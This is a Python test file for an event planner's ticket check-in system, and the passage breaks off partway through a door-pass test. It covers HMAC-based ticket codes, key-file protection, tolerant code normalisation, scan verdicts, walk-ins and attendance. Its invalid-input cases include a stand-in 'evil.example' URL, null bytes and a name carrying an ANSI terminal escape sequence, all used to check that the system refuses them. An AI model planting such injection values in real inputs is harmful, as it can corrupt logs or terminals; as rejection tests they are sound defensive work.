"""Tickets and check-in: the codes a ticket carries, how the door reads them back, the
verdicts it gives, undoing, walk-ins, finding guests by name, the headcount, door passes,
the QR ticket and the printable door list — and a fuzz of codes that must never let anyone in.

Events here take place in the future by the real clock (as in ``test_registrations.py``), so
they take registrations. ``planner.check_in()`` costs one durable write (the scan is recorded
even when refused): about 1 ms per call on an idle disk here, 5–7 ms on a busy one (see
``bench/checkin.py``). The fuzz therefore checks all of its 24,000 codes (10,000 random, the
rest single-character mutations of real ones) through ``checkin.normalize`` and the set of
codes in the database — what ``check_in()`` looks up — and 2,000 of them end to end.
"""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import itertools
import os
import random
import re
import sqlite3
import stat
import string
from datetime import UTC, datetime, timedelta
from pathlib import Path
from urllib.parse import parse_qs, quote, urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from planner import NotFound, Planner, ValidationError
from planner.areas import ticket_codes as checkin
from tests.domain.conftest import FUTURE
from planner.models import Attendance, CheckInResult, DoorPass, Registration, Scan
from planner.outputs.qrscan import decode_qr
from planner.text import match_key

CROCKFORD = "0123456789ABCDEFGHJKMNPQRSTVWXYZ"
CODE = re.compile(f"[{CROCKFORD}]{{16}}")
TICKET_CODE = re.compile(f"[{CROCKFORD}]{{4}}(-[{CROCKFORD}]{{4}}){{3}}")
URLSAFE = set(string.ascii_letters + string.digits + "-_")
BASE_URL = "http://localhost:8501"

# A day well ahead of the real clock, so events built on it are open for registration.


# ---------------------------------------------------------------------- helpers and fixtures


def people(planner, event_id, count, *, start=0, prefix="person"):
    """Register ``count`` new people; returns their registrations (with tokens)."""
    return [
        planner.register(event_id, name=f"Person {n}", email=f"{prefix}{n}@example.org")
        for n in range(start, start + count)
    ]


def key_of(planner) -> bytes:
    return bytes.fromhex((Path(planner.path).parent / checkin.KEY_FILE_NAME).read_text().strip())


def database_bytes(planner) -> bytes:
    path = Path(planner.path)
    return b"".join(p.read_bytes() for p in (path, Path(f"{path}-wal"), Path(f"{path}-shm")) if p.exists())


def db_codes(planner) -> set[str]:
    conn = sqlite3.connect(planner.path)
    try:
        return {row[0] for row in conn.execute("SELECT checkin_code FROM registrations")}
    finally:
        conn.close()


def current(planner, registration: Registration) -> Registration:
    (found,) = [r for r in planner.registrations(registration.event_id) if r.id == registration.id]
    return found


def scan_log(planner, event_id) -> list[tuple]:
    """(door, verdict, registration id) of every scan, oldest first."""
    return [(s.door, s.verdict, s.registration_id) for s in reversed(planner.scans(event_id))]


def dashed(code: str) -> str:
    return "-".join(code[i : i + 4] for i in range(0, len(code), 4))


# ---------------------------------------------------------------------- the codes


def test_every_confirmed_registration_has_a_16_character_crockford_code(planner, open_event):
    event = open_event(capacity=10)
    r = planner.register(event.id, name="Amina Diallo", email="amina@example.org")
    assert isinstance(r.checkin_code, str) and CODE.fullmatch(r.checkin_code), r.checkin_code
    assert TICKET_CODE.fullmatch(r.ticket_code), r.ticket_code
    assert r.ticket_code == dashed(r.checkin_code) and r.ticket_code.replace("-", "") == r.checkin_code
    # The same code whichever way the registration is read back.
    assert planner.registration(r.manage_token).checkin_code == r.checkin_code
    assert current(planner, r).ticket_code == r.ticket_code
    assert r.checkin_code in db_codes(planner)


def test_the_code_is_an_hmac_of_the_registration_under_the_key_beside_the_database(planner, open_event, tmp_path):
    event = open_event(capacity=10)
    regs = people(planner, event.id, 5)
    key_file = tmp_path / "checkin.key"
    assert key_file.exists(), "the key must sit beside the database"
    assert Path(planner.path).parent == tmp_path
    key = key_of(planner)
    assert len(key) * 8 >= 128, f"a {len(key) * 8}-bit key"
    for r in regs:
        assert r.checkin_code == checkin.code_for(key, r.id)
    # Another key, another code: it cannot be made without the key.
    other = os.urandom(32)
    assert all(checkin.code_for(other, r.id) != r.checkin_code for r in regs)


def test_the_key_file_is_readable_only_by_its_owner_and_not_in_the_database(planner, open_event, tmp_path):
    event = open_event()
    people(planner, event.id, 2)
    mode = stat.S_IMODE((tmp_path / "checkin.key").stat().st_mode)
    assert mode == 0o600, oct(mode)
    key = key_of(planner)
    data = database_bytes(planner)
    assert key not in data and key.hex().encode() not in data and key.hex().upper().encode() not in data


def test_a_second_planner_on_the_same_file_reuses_the_key(planner, open_event, tmp_path):
    event = open_event(capacity=10)
    first = planner.register(event.id, name="Ana", email="ana@example.org")
    key_text = (tmp_path / "checkin.key").read_text()
    again = Planner(planner.path)
    assert (tmp_path / "checkin.key").read_text() == key_text, "the key was replaced"
    second = again.register(event.id, name="Bo", email="bo@example.org")
    assert second.checkin_code == checkin.code_for(bytes.fromhex(key_text), second.id)
    # Tickets made by one process are good at the other's door, and the other way round.
    assert again.check_in(first.checkin_code, event.id).verdict == "checked_in"
    assert planner.check_in(second.checkin_code, event.id).verdict == "checked_in"


def test_another_data_folder_has_another_key(planner, open_event, tmp_path):
    event = open_event(capacity=10)
    mine = planner.register(event.id, name="Ana", email="ana@example.org")
    elsewhere = Planner(tmp_path / "elsewhere" / "planner.db")
    assert (tmp_path / "elsewhere" / "checkin.key").exists()
    assert key_of(elsewhere) != key_of(planner)
    start = FUTURE + timedelta(days=1)
    foreign = elsewhere.create_event(title="Other", starts_at=start, ends_at=start + timedelta(hours=1),
                                     online_url="https://meet.example.org/x", capacity=10)
    elsewhere.publish_event(foreign.id)
    theirs = elsewhere.register(foreign.id, name="Ana", email="ana@example.org")
    assert theirs.id == mine.id  # the same row id, under another key
    assert theirs.checkin_code != mine.checkin_code
    assert planner.check_in(theirs.checkin_code, event.id).verdict == "invalid"


def test_an_empty_key_file_is_refused_not_used_as_an_empty_key(tmp_path):
    """A key file that is there but empty (a crash, or another process that has created it
    and not yet written it) must not become an empty HMAC key: anyone could then compute
    every ticket's code."""
    (tmp_path / "checkin.key").write_text("")
    os.chmod(tmp_path / "checkin.key", 0o600)
    with pytest.raises(RuntimeError):
        checkin.load_key(tmp_path)
    with pytest.raises(RuntimeError):
        Planner(tmp_path / "planner.db")


@pytest.mark.parametrize("content", ["not hex at all", "abcd", "zz" * 32])
def test_a_damaged_key_file_is_refused(tmp_path, content):
    (tmp_path / "checkin.key").write_text(content)
    with pytest.raises(RuntimeError, match="damaged"):
        Planner(tmp_path / "planner.db")


def test_codes_differ_across_registrations(planner, open_event):
    event, other = open_event(capacity=40), open_event(capacity=40)
    regs = people(planner, event.id, 50) + people(planner, other.id, 10)
    regs += [planner.walk_in(event.id, name=f"Walk-in {n}", force=True) for n in range(3)]
    codes = [r.checkin_code for r in regs]
    assert all(CODE.fullmatch(c) for c in codes)
    assert len(set(codes)) == len(codes)
    assert len(db_codes(planner)) == len(codes)
    # Not a counter: the first characters alone already differ.
    assert len({c[:6] for c in codes}) == len(codes)


def test_the_code_is_not_the_private_link_and_cannot_be_derived_from_it(planner, open_event):
    event = open_event(capacity=10)
    regs = people(planner, event.id, 10)
    key = key_of(planner)
    for r in regs:
        code, token = r.checkin_code, r.manage_token
        assert code != token and code.lower() not in token.lower()
        assert code not in hashlib.sha256(token.encode()).hexdigest().upper()
        for digest in (hashlib.sha256(token.encode()).digest(), hashlib.sha1(token.encode()).digest(),
                       base64.urlsafe_b64decode(token + "=" * (-len(token) % 4))):
            b32 = base64.b32encode(digest[:10]).decode()
            assert code != b32.translate(str.maketrans("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", CROCKFORD))
        # It depends on the secret key and the registration only, never on the token.
        assert code == checkin.code_for(key, r.id)


def test_a_photographed_code_does_not_open_the_registration(planner, open_event, assert_refused):
    event = open_event(capacity=10)
    r = planner.register(event.id, name="Ana", email="ana@example.org", needs="Wheelchair")
    url = planner.ticket_url(r)
    for seen in (r.checkin_code, r.ticket_code, r.checkin_code.lower(), url, f" {r.ticket_code} "):
        assert_refused(lambda: planner.registration(seen), exc=NotFound)
        assert_refused(lambda: planner.cancel_registration(seen), exc=NotFound)
        assert_refused(lambda: planner.update_registration(seen, name="Mallory"), exc=NotFound)
        assert_refused(lambda: planner.registration_ics(seen), exc=NotFound)
        assert_refused(lambda: planner.ticket_qr_png(seen), exc=NotFound)
    still = planner.registration(r.manage_token)
    assert (still.name, still.status, still.needs) == ("Ana", "confirmed", "Wheelchair")


def test_only_confirmed_registrations_show_a_ticket_code(planner, open_event):
    event = open_event(capacity=1)
    seated, waiting = people(planner, event.id, 2)
    assert seated.ticket_code and planner.ticket_url(seated)
    assert waiting.status == "waitlisted"
    assert waiting.ticket_code is None and planner.ticket_url(waiting) is None
    cancelled = planner.cancel_registration(seated.manage_token)
    assert cancelled.ticket_code is None and planner.ticket_url(cancelled) is None
    promoted = planner.registration(waiting.manage_token)
    assert promoted.status == "confirmed" and promoted.ticket_code == dashed(waiting.checkin_code)


# ---------------------------------------------------------------------- typing tolerance


def _typed_forms(code: str) -> list[str]:
    forms = [
        code,
        code.lower(),
        dashed(code),
        dashed(code).lower(),
        " ".join(code[i : i + 4] for i in range(0, 16, 4)),
        " ".join(code),
        f"  {code}\n",
        f"\t{dashed(code)} \r\n",
        f"{BASE_URL}/checkin?code={code}",
        f"  {BASE_URL}/checkin?code={code}  \n",
        f"{BASE_URL}/checkin?code={dashed(code).lower()}",
        f"{BASE_URL}/checkin?code={quote(dashed(code))}&utm=x",
        code.replace("0", "O"),
        code.replace("0", "o"),
        code.replace("1", "I"),
        code.replace("1", "L"),
        code.replace("1", "l").lower(),
        code.replace("1", "i").lower(),
    ]
    return forms


@pytest.mark.parametrize("code", ["ABCD0EFGH1JKMNPQ", "0123456789ABCDEF", "1111000011110000", "ZYXWVTSRQPNMKJHG"])
def test_typed_forms_of_a_code_normalize_to_it(code):
    for typed in _typed_forms(code):
        assert checkin.normalize(typed) == code, repr(typed)


@pytest.mark.parametrize(
    "separator",
    ["\u2013", "\u2014", "\u2010", "\u2212", "\u00a0", "\u202f", "\u2009", "\u3000", "_", ".", "\u00ad"],
    ids=["en-dash", "em-dash", "hyphen", "minus", "no-break-space", "narrow-no-break", "thin-space",
         "ideographic-space", "underscore", "dot", "soft-hyphen"],
)
def test_what_phones_and_copy_paste_put_between_groups_is_ignored(separator):
    """Phone keyboards turn "--" into a dash and copy-paste brings no-break spaces."""
    assert checkin.normalize(separator.join(["8ZEW", "EVVP", "VDAE", "8N60"])) == "8ZEWEVVPVDAE8N60"


@settings(max_examples=300)
@given(
    code=st.text(alphabet=CROCKFORD, min_size=16, max_size=16),
    data=st.data(),
)
def test_any_mix_of_case_separators_and_look_alikes_reads_as_the_code(code, data):
    look_alikes = {"0": "0Oo", "1": "1IiLl"}
    typed = ""
    for ch in code:
        typed += data.draw(st.sampled_from(look_alikes.get(ch, ch + ch.lower())))
        typed += data.draw(st.sampled_from(["", "", " ", "-", "  ", " - "]))
    typed = data.draw(st.sampled_from(["", " ", "\n", "\t "])) + typed + data.draw(st.sampled_from(["", " ", "\n"]))
    assert checkin.normalize(typed) == code
    assert checkin.normalize(f"{BASE_URL}/checkin?code={quote(typed.strip())}") == code


@settings(max_examples=500)
@given(st.one_of(st.text(), st.text(alphabet=CROCKFORD + "-ilo ", max_size=40), st.binary(), st.none(), st.integers()))
def test_normalize_never_raises_and_gives_a_code_shape_or_none(value):
    result = checkin.normalize(value)
    assert result is None or CODE.fullmatch(result)


def test_typed_codes_check_in_the_same_registration(planner, open_event):
    event = open_event(capacity=60)
    regs = people(planner, event.id, 40)
    with_zero = next(r for r in regs if "0" in r.checkin_code)  # O typed for 0
    with_one = next(r for r in regs if "1" in r.checkin_code)  # I or L typed for 1
    chosen = {r.id: r for r in (with_zero, with_one, regs[0])}
    for r in chosen.values():
        verdicts = []
        for typed in _typed_forms(r.checkin_code):
            result = planner.check_in(typed, event.id)
            assert result.registration is not None and result.registration.id == r.id, repr(typed)
            verdicts.append(result.verdict)
        assert verdicts == ["checked_in"] + ["already_checked_in"] * (len(verdicts) - 1)
    assert planner.attendance(event.id).checked_in == len(chosen)


# ---------------------------------------------------------------------- verdicts


def test_a_confirmed_guest_checks_in(planner, open_event):
    event = open_event(capacity=10)
    r = planner.register(event.id, name="Ana", email="ana@example.org")
    before = datetime.now(UTC).replace(microsecond=0)
    result = planner.check_in(planner.ticket_url(r), event.id, door="North door")
    assert isinstance(result, CheckInResult)
    assert result.verdict == "checked_in"
    assert result.registration.id == r.id and result.registration.status == "confirmed"
    assert result.registration.checked_in_door == "North door"
    assert result.registration.checked_in_at is not None and result.registration.checked_in_at.tzinfo is not None
    assert before <= result.registration.checked_in_at <= datetime.now(UTC) + timedelta(seconds=1)
    assert (result.first_at, result.first_door, result.ticket_event_title) == (None, None, None)
    assert current(planner, r).checked_in_at == result.registration.checked_in_at


def test_a_second_scan_says_when_and_where_the_guest_came_in(planner, open_event):
    event = open_event(capacity=10)
    r = planner.register(event.id, name="Ana", email="ana@example.org")
    first = planner.check_in(r.checkin_code, event.id, door="North door")
    again = planner.check_in(r.ticket_code.lower(), event.id, door="South door")
    assert again.verdict == "already_checked_in"
    assert again.registration.id == r.id
    assert again.first_at == first.registration.checked_in_at
    assert again.first_door == "North door"
    assert current(planner, r).checked_in_door == "North door", "a second scan moved the first one"
    assert planner.check_in_registration(r.id, event.id, door="East").verdict == "already_checked_in"


def test_a_ticket_for_another_event_names_that_event(planner, open_event):
    event = open_event(title="Human rights at borders", capacity=10)
    other = open_event(title="Climate finance and migration", capacity=10)
    r = planner.register(other.id, name="Ana", email="ana@example.org")
    result = planner.check_in(r.checkin_code, event.id)
    assert result.verdict == "wrong_event"
    assert result.ticket_event_title == "Climate finance and migration"
    assert current(planner, r).checked_in_at is None
    assert planner.attendance(event.id).checked_in == 0 and planner.attendance(other.id).checked_in == 0
    # At the right door it still works.
    assert planner.check_in(r.checkin_code, other.id).verdict == "checked_in"


def test_a_cancelled_registration_is_refused(planner, open_event):
    event = open_event(capacity=10)
    r = planner.register(event.id, name="Ana", email="ana@example.org")
    planner.cancel_registration(r.manage_token)
    result = planner.check_in(r.checkin_code, event.id)
    assert result.verdict == "cancelled" and result.registration.id == r.id
    assert current(planner, r).checked_in_at is None
    assert planner.attendance(event.id).checked_in == 0


def test_a_checked_in_guest_cancelled_afterwards_is_refused_next_time(planner, open_event):
    event = open_event(capacity=10)
    r = planner.register(event.id, name="Ana", email="ana@example.org")
    assert planner.check_in(r.checkin_code, event.id).verdict == "checked_in"
    planner.cancel_registration_for(r.id)
    assert planner.check_in(r.checkin_code, event.id).verdict == "cancelled"


def test_a_waitlisted_guest_is_refused_until_moved_up(planner, open_event):
    event = open_event(capacity=1)
    seated, waiting = people(planner, event.id, 2)
    result = planner.check_in(waiting.checkin_code, event.id)
    assert result.verdict == "waitlisted" and result.registration.id == waiting.id
    assert current(planner, waiting).checked_in_at is None
    planner.cancel_registration(seated.manage_token)
    assert planner.check_in(waiting.checkin_code, event.id).verdict == "checked_in"


@pytest.mark.parametrize(
    "scanned",
    ["", "   ", None, "hello", "ABCD", "A" * 10_000, "ABCD-EFGH-JKMN-PQR", "ABCD-EFGH-JKMN-PQRST",
     "UUUU-UUUU-UUUU-UUUU", "ABCD\x00EFGHJKMNPQRS", "\ud800" * 16, f"{BASE_URL}/checkin?code=",
     f"{BASE_URL}/checkin?pass=abc", "https://evil.example/", 12345, b"ABCDEFGHJKMNPQRS", ["x"]],
    ids=lambda s: repr(s)[:24],
)
def test_garbage_is_invalid(planner, open_event, scanned):
    event = open_event(capacity=10)
    people(planner, event.id, 3)
    result = planner.check_in(scanned, event.id)
    assert result == CheckInResult("invalid")
    assert scan_log(planner, event.id) == [("Main door", "invalid", None)]
    assert planner.attendance(event.id).checked_in == 0


def test_well_formed_codes_that_name_no_registration_are_invalid(planner, open_event):
    """A correctly keyed code of a registration that does not exist, a code made under
    another key, and a real code with one character changed."""
    event = open_event(capacity=10)
    r = planner.register(event.id, name="Ana", email="ana@example.org")
    key = key_of(planner)
    changed = ("B" if r.checkin_code[5] != "B" else "C").join((r.checkin_code[:5], r.checkin_code[6:]))
    for code in (checkin.code_for(key, 999_999), checkin.code_for(key, r.id + 1), checkin.code_for(os.urandom(32), r.id),
                 changed, "0" * 16, "Z" * 16):
        assert planner.check_in(code, event.id).verdict == "invalid", code
    assert current(planner, r).checked_in_at is None


@pytest.mark.parametrize("event_id", [999_999, "999999", "abc", None, -1, 1.5, True])
def test_unknown_events_are_not_found(planner, open_event, assert_refused, event_id):
    r = planner.register(open_event(capacity=10).id, name="Ana", email="ana@example.org")
    assert_refused(lambda: planner.check_in(r.checkin_code, event_id), exc=NotFound)
    assert_refused(lambda: planner.check_in("garbage", event_id), exc=NotFound)


def test_a_door_needs_a_name(planner, open_event, assert_refused):
    event = open_event(capacity=10)
    r = planner.register(event.id, name="Ana", email="ana@example.org")
    for door in ("", "   ", None, "x" * 101, "North\x00"):
        assert_refused(lambda: planner.check_in(r.checkin_code, event.id, door=door), field="door")


def test_every_scan_is_recorded_with_its_door_and_verdict(planner, open_event):
    event = open_event(title="Borders", capacity=2)
    other = open_event(title="Climate", capacity=10)
    a, b, waiting = people(planner, event.id, 3)
    stranger = planner.register(other.id, name="Zed", email="zed@example.org")
    planner.cancel_registration(b.manage_token)  # waiting moves up
    c = planner.register(event.id, name="Cy", email="cy@example.org")  # waits
    steps = [
        (a.checkin_code, "North", "checked_in", a.id),
        (a.ticket_code, "South", "already_checked_in", a.id),
        ("nonsense", "North", "invalid", None),
        (b.checkin_code, "South", "cancelled", b.id),
        (c.checkin_code, "South", "waitlisted", c.id),
        (stranger.checkin_code, "North", "wrong_event", stranger.id),
        (waiting.checkin_code, "North", "checked_in", waiting.id),
        (None, "South", "invalid", None),
    ]
    for scanned, door, verdict, _ in steps:
        assert planner.check_in(scanned, event.id, door=door).verdict == verdict
    log = planner.scans(event.id)
    assert all(isinstance(s, Scan) and s.event_id == event.id and s.scanned_at.tzinfo is not None for s in log)
    assert [s.id for s in log] == sorted((s.id for s in log), reverse=True), "newest first"
    assert scan_log(planner, event.id) == [(door, verdict, rid) for _, door, verdict, rid in steps]
    assert planner.scans(other.id) == [], "a wrong-event scan belongs to the door's event"


def test_scans_and_door_passes_of_an_unknown_event_are_not_found(planner, open_event, assert_refused):
    """The README: "Unknown ids raise NotFound" (as attendance, search_guests and door_list_csv do)."""
    open_event()
    assert_refused(lambda: planner.scans(999_999), exc=NotFound)
    assert_refused(lambda: planner.door_passes(999_999), exc=NotFound)


def test_one_tap_check_in_by_registration_id(planner, open_event, assert_refused):
    event, other = open_event(capacity=10), open_event(capacity=10)
    r = planner.register(event.id, name="Ana", email="ana@example.org")
    result = planner.check_in_registration(r.id, event.id, door="List")
    assert (result.verdict, result.registration.id, result.registration.checked_in_door) == ("checked_in", r.id, "List")
    assert planner.check_in_registration(r.id, event.id).verdict == "already_checked_in"
    assert planner.check_in_registration(r.id, other.id).verdict == "wrong_event"
    assert_refused(lambda: planner.check_in_registration(999_999, event.id), exc=NotFound)


# ---------------------------------------------------------------------- undo


def test_undo_lets_a_guest_check_in_again(planner, open_event):
    event = open_event(capacity=10)
    r = planner.register(event.id, name="Ana", email="ana@example.org")
    planner.check_in(r.checkin_code, event.id, door="North")
    undone = planner.undo_check_in(r.id)
    assert (undone.id, undone.status, undone.checked_in_at, undone.checked_in_door) == (r.id, "confirmed", None, None)
    assert planner.attendance(event.id).checked_in == 0
    again = planner.check_in(r.checkin_code, event.id, door="South")
    assert again.verdict == "checked_in" and again.registration.checked_in_door == "South"
    assert [v for _, v, _ in scan_log(planner, event.id)] == ["checked_in", "undone", "checked_in"]


def test_an_undone_walk_in_is_cancelled_and_frees_the_seat(planner, open_event):
    event = open_event(capacity=2)
    people(planner, event.id, 1)
    w = planner.walk_in(event.id, name="Walker")
    late = planner.register(event.id, name="Late", email="late@example.org")
    assert late.status == "waitlisted"
    undone = planner.undo_check_in(w.id)
    assert (undone.status, undone.checked_in_at, undone.walk_in) == ("cancelled", None, True)
    assert planner.attendance(event.id) == Attendance(confirmed=2, checked_in=0, walk_ins=0, waitlisted=0, capacity=2)
    assert planner.registration(late.manage_token).status == "confirmed"
    assert planner.check_in(w.checkin_code, event.id).verdict == "cancelled"


def test_undoing_someone_not_checked_in_is_refused(planner, open_event, assert_refused):
    event = open_event(capacity=10)
    r = planner.register(event.id, name="Ana", email="ana@example.org")
    assert_refused(lambda: planner.undo_check_in(r.id), field="registration_id")
    planner.check_in(r.checkin_code, event.id)
    planner.undo_check_in(r.id)
    assert_refused(lambda: planner.undo_check_in(r.id), field="registration_id")
    assert_refused(lambda: planner.undo_check_in(999_999), exc=NotFound)


# ---------------------------------------------------------------------- walk-ins


def test_a_walk_in_is_checked_in_at_once(planner, open_event):
    event = open_event(capacity=10)
    w = planner.walk_in(event.id, name="  Walk   In ", organization="ACLU", door="Side door")
    assert isinstance(w, Registration)
    assert (w.event_id, w.name, w.organization, w.email, w.status, w.walk_in) == (
        event.id, "Walk In", "ACLU", "", "confirmed", True)
    assert w.checked_in_at is not None and w.checked_in_door == "Side door"
    assert CODE.fullmatch(w.checkin_code) and w.manage_token is None
    assert planner.check_in(w.checkin_code, event.id).verdict == "already_checked_in"
    assert planner.attendance(event.id) == Attendance(confirmed=0, checked_in=1, walk_ins=1, waitlisted=0, capacity=10)
    assert scan_log(planner, event.id)[0] == ("Side door", "walk_in", w.id)


def test_walk_ins_within_capacity_then_only_when_forced(planner, open_event, assert_refused):
    event = open_event(capacity=3)
    people(planner, event.id, 2)
    planner.walk_in(event.id, name="Third")
    error = assert_refused(lambda: planner.walk_in(event.id, name="Fourth"), field="capacity")
    assert "full" in str(error).lower()
    forced = planner.walk_in(event.id, name="Fourth", force=True)
    assert forced.status == "confirmed" and forced.checked_in_at is not None
    assert_refused(lambda: planner.walk_in(event.id, name="Fifth"), field="capacity")
    att = planner.attendance(event.id)
    assert (att.confirmed, att.walk_ins, att.checked_in, att.capacity, att.expected) == (2, 2, 2, 3, 4)


def test_a_walk_in_counts_confirmed_guests_who_have_not_arrived(planner, open_event, assert_refused):
    event = open_event(capacity=2)
    people(planner, event.id, 2)  # full, nobody inside yet
    assert_refused(lambda: planner.walk_in(event.id, name="Early bird"), field="capacity")


def test_walk_ins_need_no_email(planner, open_event):
    event = open_event(capacity=10)
    ws = [planner.walk_in(event.id, name=f"Guest {n}", email=e) for n, e in enumerate(["", "", "   ", None])]
    assert [w.email for w in ws] == ["", "", "", ""]
    assert len({w.id for w in ws}) == 4 and len({w.checkin_code for w in ws}) == 4
    with_email = planner.walk_in(event.id, name="Ana", email="  Ana@Example.ORG ")
    assert with_email.email == "ana@example.org"
    assert planner.attendance(event.id).walk_ins == 5


def test_a_walk_in_with_an_email_already_registered_is_refused(planner, open_event, assert_refused):
    event, other = open_event(capacity=1), open_event(capacity=10)
    planner.register(event.id, name="Ana Pérez", email="ana@example.org")
    bo = planner.register(event.id, name="Bo", email="bo@example.org")  # waitlisted
    for email in ("ana@example.org", "ANA@example.org ", "bo@example.org"):
        error = assert_refused(lambda: planner.walk_in(event.id, name="Someone", email=email, force=True), field="email")
        assert "already registered" in str(error)
        # A door link must not turn into a way to learn whose address this is.
        assert "Ana" not in str(error) and "Bo" not in str(error) and "waitlisted" not in str(error)
    planner.walk_in(event.id, name="Cy", email="cy@example.org", force=True)
    assert_refused(lambda: planner.walk_in(event.id, name="Cy again", email="cy@example.org", force=True), field="email")
    # The same address on another event, or after a cancellation, is fine.
    assert planner.walk_in(other.id, name="Ana", email="ana@example.org").walk_in
    planner.cancel_registration(bo.manage_token)
    assert planner.walk_in(event.id, name="Bo", email="bo@example.org", force=True).email == "bo@example.org"


@pytest.mark.parametrize("name", ["", "   ", None, "x" * 201, "Ana\x00", "\x1b[31mAna", 42])
def test_walk_ins_with_bad_names_are_refused(planner, open_event, assert_refused, name):
    event = open_event(capacity=10)
    assert_refused(lambda: planner.walk_in(event.id, name=name), field="name")


def test_walk_ins_with_bad_emails_are_refused(planner, open_event, assert_refused):
    event = open_event(capacity=10)
    for email in ("not-an-email", "a@", "@example.org", "a b@example.org"):
        assert_refused(lambda: planner.walk_in(event.id, name="Ana", email=email), field="email")


def test_a_draft_takes_no_walk_ins_and_gets_no_door_pass(planner, make_event, assert_refused):
    draft = make_event()
    assert_refused(lambda: planner.walk_in(draft.id, name="Ana", force=True), field="event", match="still a draft")
    assert_refused(lambda: planner.create_door_pass(draft.id), field="event_id", match="still a draft")


def test_a_cancelled_event_gets_no_door_pass(planner, open_event, assert_refused):
    event = open_event()
    planner.cancel_event(event.id, reason="The room is closed.")
    assert_refused(lambda: planner.create_door_pass(event.id), field="event_id", match="cancelled")


def test_a_scan_at_a_cancelled_event_is_refused_but_recorded(planner, open_event):
    """Every scan is recorded, refused ones too: the organizer sees who still came. The refusal
    is a verdict like every other one at the door (one way to refuse per method)."""
    event = open_event(capacity=10)
    ana = planner.register(event.id, name="Ana", email="ana@example.org")
    planner.cancel_event(event.id, reason="The room is closed.")
    refused = planner.check_in(ana.ticket_code, event.id, door="North door")
    assert (refused.verdict, refused.registration.id) == ("event_cancelled", ana.id)
    [scan] = planner.scans(event.id)
    assert (scan.registration_id, scan.door, scan.verdict) == (ana.id, "North door", "event_cancelled")
    assert planner.registration(ana.manage_token).checked_in_at is None


def test_a_cancelled_event_takes_no_walk_ins(planner, open_event, assert_refused):
    event = open_event(capacity=10)
    planner.cancel_event(event.id, reason="The room is closed.")
    assert_refused(lambda: planner.walk_in(event.id, name="Ana"), field="event")
    assert_refused(lambda: planner.walk_in(event.id, name="Ana", force=True), field="event")
    assert_refused(lambda: planner.walk_in(999_999, name="Ana"), exc=NotFound)


# ---------------------------------------------------------------------- finding guests


@pytest.fixture
def guest_list(planner, open_event):
    event = open_event(capacity=4)
    for name, org, email in [
        ("Yanira Chacón-López", "NALACC", "yanira@example.org"),
        ("Diego Morales", "CELS/GCM", "diego@example.org"),
        ("María José Núñez", "CELS", "maria@example.org"),
        ("Zoë Adams", "ActionAid", "zoe@example.org"),
        ("Alberto Chacon", "Oxfam", "alberto@example.org"),  # waitlisted
    ]:
        planner.register(event.id, name=name, organization=org, email=email)
    return event


def names(guests) -> list[str]:
    return [g.name for g in guests]


@pytest.mark.parametrize(
    "query, expected",
    [
        ("chacon", ["Yanira Chacón-López", "Alberto Chacon"]),
        ("CHACÓN", ["Yanira Chacón-López", "Alberto Chacon"]),
        ("nalacc", ["Yanira Chacón-López"]),
        ("yanira lopez", ["Yanira Chacón-López"]),
        ("  LÓPEZ   yanira ", ["Yanira Chacón-López"]),
        ("yanira morales", []),
        ("cels", ["Diego Morales", "María José Núñez"]),
        ("nunez cels", ["María José Núñez"]),
        ("zoe", ["Zoë Adams"]),
        ("nobody", []),
    ],
)
def test_search_guests_by_name_or_organization_ignoring_case_and_accents(planner, guest_list, query, expected):
    assert names(planner.search_guests(guest_list.id, query)) == expected


def test_search_lists_confirmed_guests_first(planner, open_event):
    event = open_event(capacity=2)
    for name in ("Zed Alpha", "Bea Alpha", "Adam Alpha", "Aaron Alpha"):
        planner.register(event.id, name=name, email=f"{name.split()[0].lower()}@example.org")
    w = planner.walk_in(event.id, name="Carl Alpha", force=True)
    found = planner.search_guests(event.id, "alpha")
    assert [g.status for g in found][:3] == ["confirmed"] * 3
    assert names(found)[:3] == ["Bea Alpha", "Carl Alpha", "Zed Alpha"]
    assert names(found)[3:] == ["Aaron Alpha", "Adam Alpha"]
    assert [g.status for g in found][3:] == ["waitlisted"] * 2
    assert found[1].id == w.id and found[1].walk_in


def test_search_guests_of_an_unknown_event_is_not_found(planner, assert_refused):
    assert_refused(lambda: planner.search_guests(999_999, "ana"), exc=NotFound)


# ---------------------------------------------------------------------- attendance


def test_attendance_after_a_mix_of_actions(planner, open_event):
    event = open_event(capacity=4)
    a, b, c, d, e, f = people(planner, event.id, 6)
    assert planner.attendance(event.id) == Attendance(confirmed=4, checked_in=0, walk_ins=0, waitlisted=2, capacity=4)
    planner.check_in(a.checkin_code, event.id)
    planner.check_in(b.checkin_code, event.id)
    planner.check_in(e.checkin_code, event.id)  # waitlisted: refused
    planner.check_in("garbage", event.id)
    w = planner.walk_in(event.id, name="Walker", force=True)
    assert planner.attendance(event.id) == Attendance(confirmed=4, checked_in=3, walk_ins=1, waitlisted=2, capacity=4)
    # c cancels: the walk-in took a seat, so nobody moves up yet.
    planner.cancel_registration(c.manage_token)
    assert planner.attendance(event.id) == Attendance(confirmed=3, checked_in=3, walk_ins=1, waitlisted=2, capacity=4)
    planner.undo_check_in(b.id)
    assert planner.attendance(event.id) == Attendance(confirmed=3, checked_in=2, walk_ins=1, waitlisted=2, capacity=4)
    # The walk-in was a mistake: cancelled, and the first waiting guest (e) moves up.
    planner.undo_check_in(w.id)
    att = planner.attendance(event.id)
    assert att == Attendance(confirmed=4, checked_in=1, walk_ins=0, waitlisted=1, capacity=4)
    assert att.expected == 4
    assert planner.check_in(e.checkin_code, event.id).verdict == "checked_in"
    assert planner.check_in(f.checkin_code, event.id).verdict == "waitlisted"
    assert planner.attendance(event.id).checked_in == 2


def test_attendance_of_an_event_without_a_limit(planner, make_event, assert_refused):
    event = make_event(room_id=None, online_url="https://meet.example.org/x", starts_at=FUTURE,
                       ends_at=FUTURE + timedelta(hours=1))
    planner.publish_event(event.id)
    people(planner, event.id, 3)
    for n in range(3):
        planner.walk_in(event.id, name=f"W {n}")
    assert planner.attendance(event.id) == Attendance(confirmed=3, checked_in=3, walk_ins=3, waitlisted=0, capacity=None)
    assert_refused(lambda: planner.attendance(999_999), exc=NotFound)


# ---------------------------------------------------------------------- door passes


def _secret(door_pass: DoorPass) -> str:
    parts = urlsplit(door_pass.url)
    (secret,) = parse_qs(parts.query)["pass"]
    return secret


def test_door_passes_are_created_listed_and_revoked(planner, open_event, assert_refused):
    event, other = open_event(), open_event()
    north = planner.create_door_pass(event.id, label="North door")
    south = planner.create_door_pass(event.id, label="  South   door ")
